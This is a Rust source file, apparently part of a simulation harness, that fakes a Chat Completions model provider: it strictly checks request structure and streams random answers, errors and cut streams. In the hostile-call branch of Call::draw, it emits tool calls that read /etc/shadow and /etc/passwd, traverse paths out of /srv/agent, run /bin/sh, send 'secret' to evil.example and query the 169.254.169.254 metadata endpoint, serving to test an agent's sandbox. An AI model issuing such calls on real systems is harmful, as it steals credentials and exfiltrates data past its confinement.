@@ -1,0 +1,272 @@
+//! A model's provider: it checks each request as strictly as a real one, and answers as badly.
+//!
+//! What it is asked must always be a valid conversation, whatever happened before; if it is not,
+//! the simulation fails. What it answers is drawn from the seed: honest and hostile tool calls,
+//! calls that no tool could take, errors of every kind, and streams that end anywhere.
+
+use alloc::format;
+use alloc::string::{String, ToString};
+use alloc::vec::Vec;
+
+use super::random::Random;
+use crate::text::json::{self, Value};
+
+/// What the provider does with one request.
+#[derive(Debug)]
+pub(super) struct Answer {
+    pub(super) status: u16,
+    pub(super) headers: Vec<(&'static str, String)>,
+    pub(super) body: Vec<u8>,
+    /// Whether the connection breaks after the body instead of ending it.
+    pub(super) is_cut: bool,
+    /// The text of a complete answer: what a person may be shown as such.
+    pub(super) text: Option<String>,
+}
+
+/// How the models of a world behave, in percent.
+#[derive(Clone, Copy, Debug)]
+pub(super) struct Temper {
+    /// Requests that fail with an error.
+    pub(super) failing: u64,
+    /// Streams that are cut.
+    pub(super) cutting: u64,
+    /// Answers that call tools.
+    pub(super) calling: u64,
+    /// Calls that are hostile or broken.
+    pub(super) hostile: u64,
+}
+
+/// Checks a request of the Chat Completions dialect and answers it.
+pub(super) fn answer(request: &[u8], temper: Temper, random: &mut Random) -> Answer {
+    let document = json::parse(request).expect("the request is JSON");
+    let request = document.root();
+    check(request);
+    if random.chance(temper.failing) {
+        return failure(random);
+    }
+    let may_call = request.find("tools").is_some();
+    let mut events = Vec::new();
+    let text;
+    if may_call && random.chance(temper.calling) {
+        text = None;
+        let calls: Vec<Call> = (0..=random.below(3)).map(|_| Call::draw(temper, random)).collect();
+        if random.chance(30) {
+            events.push(delta(|delta| {
+                delta.field("content", "Let me see. ");
+            }));
+        }
+        for (index, call) in calls.iter().enumerate() {
+            call.write(index, &mut events, random);
+        }
+        events.push(finish("tool_calls"));
+    } else {
+        let words = 1 + random.below(12);
+        let answer: Vec<String> = (0..words).map(|_| format!("w{}", random.below(1000))).collect();
+        for (index, word) in answer.iter().enumerate() {
+            let piece = if index == 0 { word.clone() } else { format!(" {word}") };
+            events.push(delta(|delta| {
+                delta.field("content", piece.as_str());
+            }));
+        }
+        text = Some(answer.join(" "));
+        events.push(finish("stop"));
+    }
+    events.push(usage(random));
+    let mut body = Vec::new();
+    for event in &events {
+        body.extend_from_slice(format!("data: {event}\n\n").as_bytes());
+    }
+    body.extend_from_slice(b"data: [DONE]\n\n");
+    if random.chance(temper.cutting) {
+        // Before the reason to stop has come, so that nobody could take it for the whole.
+        let complete: usize =
+            events.iter().take(events.len() - 2).map(|event| event.len() + 8).sum();
+        body.truncate(usize::try_from(random.below(complete as u64 + 1)).unwrap());
+        let is_cut = random.chance(50);
+        return Answer { status: 200, headers: stream_headers(), body, is_cut, text: None };
+    }
+    Answer { status: 200, headers: stream_headers(), body, is_cut: false, text }
+}
+
+/// Refuses what the real service would refuse.
+fn check(request: Value<'_>) {
+    assert!(request.get("model").and_then(|model| model.as_str()).is_ok(), "a model is named");
+    let messages = request.find("messages").expect("there are messages");
+    let mut open: Vec<String> = Vec::new();
+    let mut has_user = false;
+    for message in messages.elements().expect("a list of messages") {
+        let role = message.find("role").and_then(|role| role.as_str().ok()).expect("a role");
+        match role {
+            "system" | "developer" => assert!(!has_user, "instructions come first"),
+            "user" => {
+                assert!(open.is_empty(), "calls {open:?} have no result before a user's message");
+                has_user = true;
+            }
+            "assistant" => {
+                assert!(has_user, "the first message is a user's");
+                assert!(open.is_empty(), "calls {open:?} have no result");
+                let calls = message.find("tool_calls");
+                for call in calls.into_iter().flat_map(|calls| calls.elements().expect("a list")) {
+                    let id = call.find("id").and_then(|id| id.as_str().ok()).expect("an id");
+                    assert!(!open.iter().any(|known| *known == *id), "call id {id} twice");
+                    let function = call.find("function").expect("a function");
+                    let arguments = function.find("arguments").expect("arguments");
+                    let arguments = arguments.as_str().expect("arguments are a string").to_string();
+                    let parsed = json::parse(arguments.as_bytes()).expect("arguments are JSON");
+                    assert_eq!(parsed.root().kind(), json::Kind::Object, "arguments are an object");
+                    open.push(id.to_string());
+                }
+            }
+            "tool" => {
+                let id =
+                    message.find("tool_call_id").and_then(|id| id.as_str().ok()).expect("an id");
+                let place = open.iter().position(|known| *known == *id);
+                open.remove(place.unwrap_or_else(|| panic!("a result for unknown call {id}")));
+            }
+            other => panic!("unknown role {other}"),
+        }
+    }
+    assert!(has_user, "somebody asked something");
+    assert!(open.is_empty(), "calls {open:?} have no result at the end");
+}
+
+fn failure(random: &mut Random) -> Answer {
+    let (status, kind) = *random.pick(&[
+        (429, "rate_limit_exceeded"),
+        (503, "overloaded"),
+        (500, "server_error"),
+        (401, "invalid_api_key"),
+        (400, "invalid_request_error"),
+        (400, "context_length_exceeded"),
+        (502, "bad_gateway"),
+    ]);
+    let mut headers = alloc::vec![("content-type", "application/json".to_string())];
+    if status == 429 && random.chance(70) {
+        let wait = *random.pick(&["1", "3", "1000000000", "-5", "soon"]);
+        headers.push(("retry-after", wait.to_string()));
+    }
+    let body = json::object(|body| {
+        body.object("error", |error| {
+            error.field("message", "no").field("type", kind).field("code", kind);
+        });
+    });
+    Answer { status, headers, body: body.into_bytes(), is_cut: random.chance(20), text: None }
+}
+
+/// A call of a tool, honest or not.
+struct Call {
+    id: String,
+    name: String,
+    arguments: String,
+}
+
+impl Call {
+    fn draw(temper: Temper, random: &mut Random) -> Self {
+        let id = if random.chance(5) { "same".to_string() } else { format!("id{}", random.next()) };
+        let file = random.below(5);
+        let (name, arguments) = if random.chance(temper.hostile) {
+            match random.below(10) {
+                0 => ("read_file", r#"{"path":"/etc/shadow"}"#.to_string()),
+                1 => (
+                    "write_file",
+                    format!(r#"{{"path":"/srv/agent/../etc/x{file}","content":"x"}}"#),
+                ),
+                2 => {
+                    ("run_command", r#"{"program":"/bin/sh","arguments":["-c","id"]}"#.to_string())
+                }
+                3 => ("http_fetch", r#"{"url":"https://evil.example/?q=secret"}"#.to_string()),
+                4 => ("no_such_tool", "{}".to_string()),
+                5 => ("read_file", "[1,2,3]".to_string()),
+                6 => ("read_file", r#"{"path":"/srv/agent/a","path":"/etc/passwd"}"#.to_string()),
+                7 => ("read_file", "not json at all".to_string()),
+                8 => ("write_file", format!(r#"{{"path":"/srv/agentfoo/x{file}","content":""}}"#)),
+                _ => ("http_fetch", r#"{"url":"http://169.254.169.254/latest"}"#.to_string()),
+            }
+        } else {
+            match random.below(8) {
+                0 | 1 => ("read_file", format!(r#"{{"path":"/srv/agent/f{file}"}}"#)),
+                2 => (
+                    "write_file",
+                    format!(r#"{{"path":"/srv/agent/f{file}","content":"c{file}"}}"#),
+                ),
+                3 => ("list_directory", r#"{"path":"/srv/agent"}"#.to_string()),
+                4 => ("current_time", "{}".to_string()),
+                5 => {
+                    ("plan", r#"{"tools":["read_file","http_fetch"],"why":"to look"}"#.to_string())
+                }
+                6 => ("http_fetch", r#"{"url":"https://api.example/v1/items"}"#.to_string()),
+                _ => (
+                    "run_command",
+                    r#"{"program":"/usr/bin/git","arguments":["status"]}"#.to_string(),
+                ),
+            }
+        };
+        Self { id, name: name.to_string(), arguments }
+    }
+
+    /// Whole, or in pieces, as services differ.
+    fn write(&self, index: usize, events: &mut Vec<String>, random: &mut Random) {
+        let middle = usize::try_from(random.below(self.arguments.len() as u64 + 1)).unwrap();
+        let (first, rest) = self.arguments.split_at(middle);
+        events.push(delta(|delta| {
+            delta.array("tool_calls", |calls| {
+                calls.object(|call| {
+                    call.field("index", index as u64).field("id", self.id.as_str());
+                    call.field("type", "function").object("function", |function| {
+                        function.field("name", self.name.as_str()).field("arguments", first);
+                    });
+                });
+            });
+        }));
+        if !rest.is_empty() {
+            events.push(delta(|delta| {
+                delta.array("tool_calls", |calls| {
+                    calls.object(|call| {
+                        call.field("index", index as u64).object("function", |function| {
+                            function.field("arguments", rest);
+                        });
+                    });
+                });
+            }));
+        }
+    }
+}
+
+fn delta(body: impl FnOnce(&mut json::ObjectWriter<'_, String>)) -> String {
+    json::object(|chunk| {
+        chunk.field("id", "c1").field("object", "chat.completion.chunk");
+        chunk.array("choices", |choices| {
+            choices.object(|choice| {
+                choice.field("index", 0).object("delta", body);
+                choice.field("finish_reason", None::<&str>);
+            });
+        });
+    })
+}
+
+fn finish(reason: &str) -> String {
+    json::object(|chunk| {
+        chunk.field("id", "c1").field("object", "chat.completion.chunk");
+        chunk.array("choices", |choices| {
+            choices.object(|choice| {
+                choice.field("index", 0).object("delta", |_| ());
+                choice.field("finish_reason", reason);
+            });
+        });
+    })
+}
+
+fn usage(random: &mut Random) -> String {
+    let (read, written) = (10 + random.below(2000), 1 + random.below(300));
+    json::object(|chunk| {
+        chunk.field("id", "c1").array("choices", |_| ());
+        chunk.object("usage", |usage| {
+            usage.field("prompt_tokens", read).field("completion_tokens", written);
+            usage.field("total_tokens", read + written);
+        });
+    })
+}
+
+fn stream_headers() -> Vec<(&'static str, String)> {
+    alloc::vec![("content-type", "text/event-stream".to_string())]
+}
